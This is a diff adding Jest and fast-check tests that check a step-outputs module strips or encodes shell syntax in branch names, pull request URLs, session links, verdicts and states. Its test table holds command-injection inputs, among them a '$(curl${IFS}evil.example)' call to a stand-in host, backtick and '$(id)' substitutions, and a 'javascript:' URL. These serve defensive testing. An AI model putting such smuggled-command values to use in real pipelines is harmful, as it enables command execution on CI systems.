@@ -1,4 +1,5 @@
 import { expect, test } from '@jest/globals'
+import fc from 'fast-check'
 import { Outputs } from '../../src/report/step-outputs.ts'
 import { createRedactor } from '../../src/platform/text/redact.ts'
 
@@ -33,4 +34,45 @@ test('is set again only when it changes, and not at all where there is nothing t
     ['state', 'QUEUED'],
     ['state', 'INPROGRESS'],
   ])
+})
+
+const setAlone = (name: Parameters<Outputs['set']>[0], value: string): string | undefined => {
+  const { outputs, seen } = record()
+  outputs.set(name, value)
+  return seen[0]?.[1]
+}
+
+test.each([
+  ['branch', 'oz/fix-1', 'oz/fix-1'],
+  ['branch', 'feature/größe_2+x@y=z', 'feature/größe_2+x@y=z'],
+  ['branch', 'x$(curl${IFS}evil.example)', ''],
+  ['branch', 'x`id`', ''],
+  ['branch', "x';id;'", ''],
+  ['branch', '-x', ''],
+  ['pull_request_url', 'https://github.com/o/r/pull/1', 'https://github.com/o/r/pull/1'],
+  ['pull_request_url', 'https://github.com/o/r/pull/1;$(id)', 'https://github.com/o/r/pull/1%3B%24%28id%29'],
+  ['pull_request_url', "https://github.com/o/r/pull/1'&x|y", 'https://github.com/o/r/pull/1%27%26x%7Cy'],
+  ['pull_request_url', 'javascript:alert(1)', ''],
+  ['session_link', 'https://app.warp.dev/session/1?a=b&c=`d`', 'https://app.warp.dev/session/1?a=b%26c=%60d%60'],
+  ['session_link', 'http://127.0.0.1:9/sessions/1', 'http://127.0.0.1:9/sessions/1'],
+  ['verdict', 'needs-info', 'needs-info'],
+  ['verdict', 'yes; $(id) && `x`', 'yes- -id- - -x-'],
+  ['state', 'SUCCEEDED', 'SUCCEEDED'],
+  ['state', 'NEW $(id)', 'NEW-id-'],
+] as const)('%s: %s holds no shell syntax', (name, value, expected) => {
+  expect(setAlone(name, value)).toBe(expected)
+})
+
+test('whatever comes, no sign of a shell stands in outputs that scripts use as they are', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom('branch', 'pull_request_url', 'session_link', 'verdict', 'state'),
+      fc.string(),
+      (name, text) => {
+        for (const value of [text, `a${text}`, `https://a.example/${text}`]) {
+          expect(setAlone(name, value)).not.toMatch(/[$`"'\\;&|<>(){}[\]*!^\n\r]/)
+        }
+      },
+    ),
+  )
 })
